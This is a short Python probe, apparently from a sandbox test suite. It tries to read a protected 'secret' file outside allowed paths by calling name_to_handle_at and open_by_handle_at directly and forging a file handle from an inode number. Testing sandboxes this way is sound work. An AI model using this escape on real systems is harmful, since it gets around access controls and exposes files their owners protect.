"""Open a file outside by its handle, which no path rule sees: name_to_handle_at and open_by_handle_at.

canary: secret
control: through as root
"""
import ctypes
import os
import platform
import struct

name_to_handle, open_by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
call = ctypes.CDLL(None, use_errno=True).syscall
handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
made = call(name_to_handle, -100, TARGETS["secret"].encode(), handle, ctypes.byref(mount), 0)
print(made, os.strerror(ctypes.get_errno()))
if made < 0:
    # A handle of the usual form: number and generation of the file.
    handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, TARGETS["inode"] & 0xFFFFFFFF, 0) + bytes(120))
for place in (".", "/", TARGETS["secret_folder"]):
    try:
        here = os.open(place, os.O_RDONLY)
        descriptor = call(open_by_handle, here, handle, os.O_RDONLY)
        print(descriptor, os.strerror(ctypes.get_errno()))
        if descriptor >= 0:
            print(os.read(descriptor, 100))
    except OSError as error:
        print(error)
